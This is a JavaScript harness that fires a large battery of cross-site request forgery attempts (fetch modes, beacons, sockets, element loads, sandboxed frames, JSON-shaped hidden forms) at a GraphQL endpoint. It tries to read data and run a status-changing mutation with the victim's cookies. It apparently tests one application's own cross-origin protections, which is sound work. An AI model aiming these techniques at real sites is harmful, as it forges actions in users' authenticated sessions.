/*
 * What a page can try on a server of another site, with nothing but what browsers give it. `attack(url, id)` does it all
 * and returns what it saw of each attempt. It wants to read the name of the event, and to set assignment `id` to ASSEMBLED.
 */
const read = 'query Attack { events(first: 1) { nodes { name } } }'
const write = (id) =>
  `mutation Attack { updatePackageStatus(input: { assignmentId: "${id}", status: ASSEMBLED }) { assignment { id status } } }`
const asJson = (query) => JSON.stringify({ query })
const asSearch = (query) => `?query=${encodeURIComponent(query)}`

const TYPES = [
  undefined,
  'application/json',
  'application/json; charset=utf-8',
  'application/graphql',
  'application/graphql+json',
  'text/plain',
  'text/plain; application/json',
  'text/plain;charset=application/json',
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; application/json',
  'multipart/form-data',
]

const within = (ms, work) =>
  Promise.race([work, new Promise((resolve) => setTimeout(resolve, ms, 'nothing')).then((text) => text)])

const loaded = (element) =>
  within(
    4000,
    new Promise((resolve) => {
      element.onload = () => resolve('loaded')
      element.onloadeddata = () => resolve('loaded')
      element.onerror = () => resolve('refused')
    }),
  )

function add(name, attributes) {
  const element = document.createElement(name)
  const done = loaded(element)
  Object.assign(element, attributes)
  document.body.append(element)
  return done
}

async function fetched(url, init) {
  try {
    const response = await fetch(url, init)
    return `${response.type} ${response.status} ${await response.text()}`
  } catch {
    return 'refused'
  }
}

/** A form that submits into a frame of its own. */
function submitted(url, method, enctype, fields) {
  const frame = document.createElement('iframe')
  frame.name = `frame-${Math.random()}`
  document.body.append(frame)
  const form = document.createElement('form')
  Object.assign(form, { action: url, method, enctype, target: frame.name })
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input')
    Object.assign(input, { type: 'hidden', name, value })
    form.append(input)
  }
  document.body.append(form)
  const done = loaded(frame)
  form.submit()
  return done.then(() => {
    try {
      return `framed ${frame.contentDocument.body.textContent}`
    } catch {
      return 'refused'
    }
  })
}

globalThis.attack = async (url, id) => {
  const attempts = {}
  const attempt = async (name, work) => {
    try {
      attempts[name] = await work()
    } catch (error) {
      attempts[name] = `refused ${error.name}`
    }
  }
  const work = []
  for (const query of [read, write(id)]) {
    const kind = query === read ? 'read' : 'write'
    const named = (name, one) => work.push(() => attempt(`${kind}: ${name}`, one))
    for (const mode of ['cors', 'no-cors', 'same-origin', 'navigate']) {
      named(`fetch ${mode} GET`, () => fetched(url + asSearch(query), { mode, credentials: 'include' }))
      named(`fetch ${mode} GET of another type`, () =>
        fetched(url + asSearch(query), { mode, headers: { 'content-type': 'text/plain' } }),
      )
      for (const type of TYPES) {
        const headers = type === undefined ? {} : { 'content-type': type }
        named(`fetch ${mode} POST ${type}`, () => fetched(url, { method: 'POST', mode, headers, body: asJson(query) }))
      }
      named(`fetch ${mode} of a blob`, () =>
        fetched(url, { method: 'POST', mode, body: new Blob([asJson(query)], { type: 'application/json' }) }),
      )
      named(`fetch ${mode} of fields`, () =>
        fetched(url, { method: 'POST', mode, body: new URLSearchParams({ query }) }),
      )
    }
    named('fetch with a header', () =>
      fetched(url + asSearch(query), { headers: { 'apollo-require-preflight': '1', 'x-apollo-operation-name': 'a' } }),
    )
    named('fetch without referrer', () =>
      fetched(url + asSearch(query), { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
    )
    named('fetch that outlives the page', () =>
      fetched(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: asJson(query) }),
    )
    named('XMLHttpRequest', () =>
      within(
        4000,
        new Promise((resolve) => {
          const request = new XMLHttpRequest()
          request.open('POST', url)
          request.setRequestHeader('content-type', 'text/plain')
          request.onload = () => resolve(request.responseText)
          request.onerror = () => resolve('refused')
          request.send(asJson(query))
        }),
      ),
    )
    for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
      named(`beacon ${type}`, () => `sent ${navigator.sendBeacon(url, new Blob([asJson(query)], { type }))}`)
    }
    named('EventSource', () =>
      within(
        4000,
        new Promise((resolve) => {
          const events = new EventSource(url + asSearch(query), { withCredentials: true })
          events.onopen = () => resolve('open')
          events.onmessage = ({ data }) => resolve(data)
          events.onerror = () => {
            events.close()
            resolve('refused')
          }
        }),
      ),
    )
    named('WebSocket', () =>
      within(
        4000,
        new Promise((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws') + asSearch(query), 'graphql-transport-ws')
          socket.onopen = () => resolve('open')
          socket.onmessage = ({ data }) => resolve(data)
          socket.onerror = () => resolve('refused')
        }),
      ),
    )
    named('image', () => add('img', { src: url + asSearch(query) }))
    named('image with CORS', () => add('img', { crossOrigin: 'use-credentials', src: url + asSearch(query) }))
    named('script', () => add('script', { src: url + asSearch(query) }))
    named('module', () => add('script', { type: 'module', src: url + asSearch(query) }))
    named('import', () => import(url + asSearch(query)).then(JSON.stringify))
    named('style sheet', () => add('link', { rel: 'stylesheet', href: url + asSearch(query) }))
    named('prefetch', () => add('link', { rel: 'prefetch', href: url + asSearch(query) }))
    named('video', () => add('video', { src: url + asSearch(query) }))
    named('object', () => add('object', { data: url + asSearch(query) }))
    named('frame', () => add('iframe', { src: url + asSearch(query) }))
    named('frame without origin', () =>
      add('iframe', { sandbox: 'allow-scripts allow-forms', src: url + asSearch(query) }),
    )
    named('fetch without origin', () => {
      const script = `fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(asJson(query))} })`
      return add('iframe', { sandbox: 'allow-scripts', srcdoc: `<script>${script}</script>` })
    })
    named('worker', () => {
      const worker = new Worker(url + asSearch(query))
      return loaded(worker)
    })
    // The text of a form whose only field has this name and value is JSON.
    const [start, end] = asJson(query).split('Attack')
    for (const enctype of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
      'application/json',
    ]) {
      named(`form ${enctype}`, () => submitted(url, 'post', enctype, { query }))
      named(`form ${enctype} of JSON`, () => submitted(url, 'post', enctype, { [`${start}Attack `]: end }))
      named(`form ${enctype} with a query in the address`, () => submitted(url + asSearch(query), 'post', enctype, {}))
    }
    named('form by GET', () => submitted(url, 'get', 'application/x-www-form-urlencoded', { query }))
  }
  // A few at a time: a browser has six connections to a host, and what waits for one must not count as refused.
  const next = async () => {
    for (let one = work.shift(); one !== undefined; one = work.shift()) await one()
  }
  await Promise.all(Array.from({ length: 6 }, next))
  return attempts
}
